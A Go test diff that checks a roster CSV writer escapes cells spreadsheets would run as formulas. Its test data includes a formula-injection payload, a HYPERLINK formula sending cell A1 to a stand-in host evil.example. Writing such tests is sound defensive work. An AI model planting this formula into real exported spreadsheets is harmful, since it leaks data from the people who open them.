@@ -2,11 +2,14 @@ package roster_test
 
 import (
 	"bytes"
+	"encoding/csv"
 	"errors"
 	"fmt"
 	"os"
 	"path/filepath"
 	"reflect"
+	"slices"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -387,4 +390,51 @@ func FuzzParse(f *testing.F) {
 			}
 		}
 	})
+}
+
+// Cells a spreadsheet would run as formulas are written with a leading
+// quote, and read back as they were.
+func TestWriteEscapesFormulas(t *testing.T) {
+	names := []string{`=HYPERLINK("http://evil.example/?"&A1,"点击")`, "+86 138", "-1+2", "@SUM(A1:A9)", "\tTab", "普通姓名"}
+	var people []*campaignbot.Person
+	for i, n := range names {
+		people = append(people, &campaignbot.Person{ID: int64(i + 1), Name: n, DepartmentID: 1, Department: "=1+1科",
+			Roles: []campaignbot.RoleGrant{{Role: campaignbot.RoleMember}}, Telegram: "@user" + strconv.Itoa(i)})
+	}
+	var buf bytes.Buffer
+	if err := roster.Write(&buf, people); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\uFEFF")))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, rec := range recs[1:] {
+		for _, cell := range rec {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("cell %q starts a formula", cell)
+			}
+		}
+	}
+	if got, want := recs[1][0], `'=HYPERLINK("http://evil.example/?"&A1,"点击")`; got != want {
+		t.Errorf("name cell %q, want %q", got, want)
+	}
+	if got := recs[6][0]; got != "普通姓名" {
+		t.Errorf("a plain name is written as %q", got)
+	}
+	// Tab and control characters are refused by Parse; the rest read back.
+	buf.Reset()
+	kept := slices.Delete(slices.Clone(people), 4, 5)
+	if err := roster.Write(&buf, kept); err != nil {
+		t.Fatal(err)
+	}
+	entries, err := roster.Parse("list.csv", &buf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, e := range entries {
+		if want := kept[i].Name; e.Name != want || e.Departments[0] != "=1+1科" || e.Telegram != strings.TrimPrefix(kept[i].Telegram, "@") {
+			t.Errorf("entry %d read back as %q %v %q, want %q", i, e.Name, e.Departments, e.Telegram, want)
+		}
+	}
 }
